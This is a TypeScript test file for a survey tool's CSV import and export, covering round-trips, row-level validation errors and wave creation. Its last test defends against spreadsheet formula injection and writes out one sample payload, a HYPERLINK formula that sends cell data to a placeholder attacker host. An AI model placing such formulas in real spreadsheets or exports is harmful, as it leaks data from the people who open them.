import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { CommandContext } from '../cli/commands.js';
import { loadDemoData } from '../demo/demo.service.js';
import { AppError, translateDetail } from '../core/errors.js';
import { translatorFor } from '../core/i18n.js';
import { openTestDatabase, testConfig } from '../testing/test-database.js';
import { listCases, listDispositionHistory } from './case.service.js';
import { exportResponsesToString, importResponses } from './response-csv.service.js';
import { runCreateWave, runExportResponses, runImportResponses, runListWaves } from './surveys.cli.js';
import { getWaveByKey } from './wave.service.js';

let database: Awaited<ReturnType<typeof openTestDatabase>>;
before(async () => {
  database = await openTestDatabase();
  // The reconstructed 2004 wave is demonstration data, loaded as `npx atlas demo load` does.
  await loadDemoData(database.db);
});
after(async () => {
  await database.close();
});

function cli(args: string[]) {
  const printed: string[] = [];
  const diagnostics: string[] = [];
  const context: CommandContext = {
    db: database.db,
    config: testConfig(),
    args,
    print: (line) => printed.push(line),
    progress: (line) => diagnostics.push(line),
  };
  return { context, printed, diagnostics };
}

async function newWave(name: string): Promise<string> {
  const { context, printed } = cli(['--questionnaire', 'lv-2004', '--name', name]);
  assert.equal(await runCreateWave(context), 0);
  return printed.at(-1)!;
}

const shippedCsv = readFileSync(new URL('./lv2004/responses.csv', import.meta.url), 'utf8');

test('the reconstructed 2004 wave is loaded with its 111 respondents and 600 cases', async () => {
  const wave = await getWaveByKey(database.db, 'lv-2004');
  assert.equal(wave.status, 'closed');
  const count = await database.db
    .selectFrom('survey_response')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('wave_id', '=', wave.id)
    .executeTakeFirstOrThrow();
  assert.equal(Number(count.n), parse(shippedCsv, { columns: true }).length);
  const cases = await listCases(database.db, wave.id);
  assert.equal(cases.length, 600);
  const linked = await database.db
    .selectFrom('survey_response')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('wave_id', '=', wave.id)
    .where('case_id', 'is not', null)
    .executeTakeFirstOrThrow();
  assert.equal(Number(linked.n), cases.filter((item) => item.respondentId !== null).length);
  const complete = cases.find((item) => item.disposition === 'complete')!;
  const history = await listDispositionHistory(database.db, complete.id);
  assert.deepEqual(
    history.map((change) => [change.from, change.to]),
    [['unknown_eligibility', 'complete']],
  );
  // What the analysis will count with SQL: a yes is a yes; an empty answer is absent, never "no".
  const yes = await database.db
    .selectFrom('survey_response')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('wave_id', '=', wave.id)
    .where((eb) => eb(eb.ref('answers', '->>').key('other_provides'), 'is', null))
    .executeTakeFirstOrThrow();
  const emptyInFile = (parse(shippedCsv, { columns: true }) as Record<string, string>[]).filter(
    (row) => row.other_provides === '',
  ).length;
  assert.equal(Number(yes.n), emptyInFile);
});

test('the 2004 wave exports exactly the shipped CSV (CRLF line ends aside)', async () => {
  const wave = await getWaveByKey(database.db, 'lv-2004');
  const exported = await exportResponsesToString(database.db, wave);
  assert.ok(exported.includes('\r\n'));
  assert.equal(exported.replace(/\r\n/g, '\n'), shippedCsv);
});

test('a good CSV round-trips: export → import into a new wave → export is unchanged', async () => {
  const { context, printed } = cli(['--wave', 'lv-2004', '--out', `/tmp/atlas-roundtrip-${process.pid}.csv`]);
  assert.equal(await runExportResponses(context), 0);
  assert.equal(printed.length, 0);
  const key = await newWave('Round trip');
  const imported = cli(['--wave', key, `/tmp/atlas-roundtrip-${process.pid}.csv`]);
  assert.equal(await runImportResponses(imported.context), 0);
  assert.equal(imported.printed.at(-1), '111');
  const again = cli(['--wave', key]);
  assert.equal(await runExportResponses(again.context), 0);
  const original = readFileSync(`/tmp/atlas-roundtrip-${process.pid}.csv`, 'utf8');
  assert.equal(`${again.printed.join('\n')}\n`, original);
  const audited = await database.db
    .selectFrom('audit_event')
    .select(['action', 'entity_id', 'details'])
    .where('action', 'in', ['survey.responses.export', 'survey.responses.import'])
    .where('entity_id', 'in', ['lv-2004', key])
    .execute();
  assert.deepEqual(
    audited.map((event) => `${event.action} ${event.entity_id} ${(event.details as { via: string }).via}`).sort(),
    [`survey.responses.export ${key} cli`, 'survey.responses.export lv-2004 cli', `survey.responses.import ${key} cli`],
  );
});

test('one bad row among many imports nothing and names its row, column and reason', async () => {
  const key = await newWave('Bad row');
  const lines = shippedCsv.trimEnd().split('\n');
  const header = lines[0]!.split(',');
  const staffColumn = header.indexOf('legal_needs_staff');
  // Row 41 as a spreadsheet counts it (header = row 1): lines[40].
  const fields = parse(lines[40]!)[0] as string[];
  fields[staffColumn] = 'pusslodze';
  lines[40] = fields.map((field) => (/[",\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field)).join(',');
  const file = `/tmp/atlas-badrow-${process.pid}.csv`;
  writeFileSync(file, `${lines.join('\n')}\n`);

  const wave = await getWaveByKey(database.db, key);
  await assert.rejects(
    database.db.transaction().execute((trx) => importResponses(trx, wave, readFileSync(file, 'utf8'))),
    (error: unknown) => {
      assert.ok(error instanceof AppError);
      assert.equal(error.code, 'invalid_input');
      const english = translatorFor('en');
      const details = error.details.map((detail) => translateDetail(detail, english));
      assert.deepEqual(details, [{ path: 'row 41, column legal_needs_staff', message: '“pusslodze” is not a number' }]);
      return true;
    },
  );
  const stored = await database.db.selectFrom('survey_response').select('id').where('wave_id', '=', wave.id).execute();
  assert.equal(stored.length, 0);
});

test('import reports every kind of problem at once, and a repeated import needs --replace', async () => {
  const key = await newWave('Problems');
  const wave = await getWaveByKey(database.db, key);
  const csv = [
    'respondent_id,institution_type,documents_provides,documents_provided_what,documents_needs_funding_amount',
    'R001,municipal,yes,Pabalsts,',
    'R001,municipal,no,,',
    'R003,prison,maybe,,100',
    'R004,ngo,no,Informācija,',
  ].join('\r\n');
  const error = await database.db
    .transaction()
    .execute((trx) => importResponses(trx, wave, csv))
    .then(
      () => undefined,
      (caught: unknown) => caught,
    );
  assert.ok(error instanceof AppError);
  assert.deepEqual(
    error.details.map((detail) => detail.path),
    [
      'row 3, column respondent_id',
      'row 4, column institution_type',
      'row 4, column documents_provides',
      'row 4, column documents_needs_funding_currency',
      'row 4, column documents_needs_funding_basis',
      'row 5, column documents_provided_what',
    ],
  );
  const good = 'respondent_id,documents_provides\nR010,yes\n';
  assert.deepEqual(await database.db.transaction().execute((trx) => importResponses(trx, wave, good)), {
    imported: 1,
    replaced: 0,
  });
  await assert.rejects(
    database.db.transaction().execute((trx) => importResponses(trx, wave, good)),
    /invalid_input/,
  );
  assert.deepEqual(
    await database.db
      .transaction()
      .execute((trx) => importResponses(trx, wave, 'respondent_id,documents_provides\nR010,no\n', { replace: true })),
    { imported: 1, replaced: 1 },
  );
  const { context, printed } = cli([]);
  assert.equal(await runListWaves(context), 0);
  assert.ok(printed.some((line) => line.startsWith(`${key}\tdraft\tlv-2004`)));
});

test('waves create prints the key on its last line and refuses a missing name', async () => {
  const { context, printed } = cli(['--questionnaire', 'lv-2004', '--name', 'Wave 2026', '--closes', '2026-12-31']);
  assert.equal(await runCreateWave(context), 0);
  assert.match(printed.at(-1)!, /^\d{4}-[0-9a-f]{4}$/);
  const wave = await getWaveByKey(database.db, printed.at(-1)!);
  assert.equal(wave.closesOn, '2026-12-31');
  const missing = cli(['--questionnaire', 'lv-2004']);
  assert.equal(await runCreateWave(missing.context), 2);
  const unknown = cli(['--questionnaire', 'no-such', '--name', 'X']);
  await assert.rejects(runCreateWave(unknown.context), /questionnaire_not_found/);
});

test('free text that a spreadsheet would run as a formula is exported as text, and imports back unchanged', async () => {
  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
  const lines = shippedCsv.trimEnd().split('\n');
  const header = lines[0]!.split(',');
  const textColumn = header.indexOf('documents_provided_what');
  const fields = parse(lines[1]!)[0] as string[];
  fields[textColumn] = formula;
  lines[1] = fields.map((field) => (/[",\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field)).join(',');
  const key = await newWave('Formula');
  const wave = await getWaveByKey(database.db, key);
  await database.db.transaction().execute((trx) => importResponses(trx, wave, `${lines.join('\n')}\n`));

  const exported = await exportResponsesToString(database.db, wave);
  const rows = parse(exported) as string[][];
  const row = rows.find((cells) => cells[0] === fields[0])!;
  assert.equal(row[textColumn], `'${formula}`);

  const again = await getWaveByKey(database.db, await newWave('Formula again'));
  await database.db.transaction().execute((trx) => importResponses(trx, again, exported));
  assert.equal(await exportResponsesToString(database.db, again), exported);
});
